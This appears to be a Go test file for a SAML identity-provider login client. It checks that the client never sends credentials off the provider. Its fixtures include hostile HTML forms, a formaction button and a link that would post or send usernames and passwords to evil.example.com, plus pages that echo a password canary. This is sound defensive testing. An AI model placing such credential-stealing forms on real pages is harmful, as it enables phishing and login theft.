package form_test

import (
	"errors"
	"slices"
	"testing"

	"github.com/samlogin/samlogin/idp"
	"github.com/samlogin/samlogin/idp/form"
	"github.com/samlogin/samlogin/idp/idptest"
	"github.com/samlogin/samlogin/saml/foreign"
)

// security case 1, security case 10
func TestSecretsStayWithTheIdP(t *testing.T) {
	fields := `<input name="username"><input name="password" type="password">`
	for name, body := range map[string]string{
		"another server":        `<form method="post" action="https://evil.example.com/">` + fields + `</form>`,
		"no TLS":                `<form method="post" action="http://idp.example.com/">` + fields + `</form>`,
		"GET":                   `<form action="/login">` + fields + `</form>`,
		"a button of its own":   `<form method="post" action="/login">` + fields + `<button formaction="https://evil.example.com/">x</button></form>`,
		"the user name by GET":  `<form action="/login"><input name="username"></form>`,
		"the user name to evil": `<form method="post" action="https://evil.example.com/"><input name="username"></form>`,
	} {
		t.Run(name, func(t *testing.T) {
			w := idptest.New(t)
			s := w.Site(host).On(begin, idptest.HTML(body))
			w.Site("evil.example.com")
			var unsafe *idp.SafetyError
			if err := login(t, w, jane()); !errors.As(err, &unsafe) {
				t.Fatalf("%v, want a refusal for safety", err)
			}
			if len(s.Requests()) != 1 || len(w.Dialled()) != 1 {
				t.Errorf("reached %v", w.Dialled())
			}
		})
	}
}

// security case 14
func TestALinkIsFollowedWithinTheIdPOnly(t *testing.T) {
	w := idptest.New(t)
	w.Site(host).On(begin, idptest.HTML(`<body><noscript><a href="https://evil.example.com/">Please click here</a></noscript>`))
	w.Site("evil.example.com")
	var unsafe *idp.SafetyError
	if err := login(t, w, jane()); !errors.As(err, &unsafe) || len(w.Dialled()) != 1 {
		t.Errorf("%v; reached %v", err, w.Dialled())
	}
}

// security case 24
func TestAPageThatEchoesThePassword(t *testing.T) {
	const echo = `<div id="content"><p>You typed Kanarie+&amp;&lt;7&gt;, which we tell everybody.</p></div>`
	for name, c := range map[string]struct {
		status int
		body   string
	}{
		"forbidden":    {403, echo},
		"an ending":    {200, `<div id="kc-error-message"><p class="instruction">Kanarie+&amp;&lt;7&gt;</p></div>`},
		"an id":        {200, `<h2>Error</h2><pre id="trackid">Kanarie+&amp;&lt;7&gt;</pre>`},
		"consent":      {200, echo + `<form id="consent_yes"><button name="yes">y</button></form><form id="consent_no"><button name="no">n</button></form>`},
		"a new page":   {200, echo},
		"a wrong code": {200, `<div class="error-message">Kanarie+&amp;&lt;7&gt;</div><form method="post"><input name="otp"></form>`},
	} {
		t.Run(name, func(t *testing.T) {
			w := idptest.New(t)
			w.Site(host).On(begin, file(t, "simplesamlphp/signin-1")).On("POST /start", idptest.Page(c.status, c.body))
			err := login(t, w, jane())
			if err == nil {
				t.Fatal("no error")
			}
			idptest.Absent(t, canary, "the error", err.Error())
		})
	}
	// What a notice says is shown, too.
	w := idptest.New(t)
	w.Site(host).On(begin, file(t, "simplesamlphp/signin-1")).On("POST /start", idptest.HTML(echo+`<form method="post" action="/on"><button>Go on</button></form>`)).On("POST /on", response(t))
	var told string
	p := provider(t, w, "https://"+host+"/start?x=1", form.Config{Walk: idp.Config{Tell: func(said foreign.Text) { told = said.Raw() }}})
	if _, err := p.Login(t.Context(), jane()); err != nil {
		t.Fatal(err)
	}
	if told == "" {
		t.Error("nothing was told")
	}
	idptest.Absent(t, canary, "the notice", told)
}

// Whatever a page is made of, it is read without a fault, and nothing is answered that a person would not see.
func FuzzPages(f *testing.F) {
	for name := range known {
		f.Add(text(f, name), true)
	}
	f.Add(`<form method="post"><input name="user"><input name="password"><input name="password" type="password"></form>`, true) // two fields of one name
	f.Fuzz(func(t *testing.T, body string, typed bool) {
		if len(body) > 1<<16 {
			return
		}
		u := (&idptest.Site{Name: host}).URL("/x")
		p, err := idp.ReadPage(u, 200, nil, []byte(body))
		if err != nil {
			return
		}
		switch s := step(p, typed).(type) {
		case idp.SignIn:
			if !s.Form.Visible || (s.Password != "" && !slices.ContainsFunc(s.Form.Passwords(), func(f idp.Field) bool { return f.Name == s.Password })) {
				t.Errorf("a password would go into %s", s.Form)
			}
		case idp.Challenge:
			if !s.Form.Visible || len(s.Blanks) != 1 {
				t.Errorf("a code would go into %s", s.Form)
			}
		}
	})
}
